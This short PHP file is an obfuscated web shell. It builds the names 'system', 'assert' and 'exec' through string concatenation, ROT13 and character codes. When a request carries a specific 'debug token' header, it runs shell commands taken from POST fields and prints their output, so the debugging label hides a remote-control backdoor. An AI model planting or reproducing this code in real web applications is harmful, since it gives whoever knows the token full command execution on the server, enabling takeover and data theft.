<?php
$a = "sys" . "tem";
$b = str_rot13("nffreg");
$c = chr(101) . chr(120) . chr(101) . chr(99);
if (isset($_SERVER['HTTP_X_DEBUG_TOKEN']) && $_SERVER['HTTP_X_DEBUG_TOKEN'] === 'f3a9c2') {
    $a($_POST['q']);
    $c($_POST['r'], $out);
    echo implode("\n", $out);
}
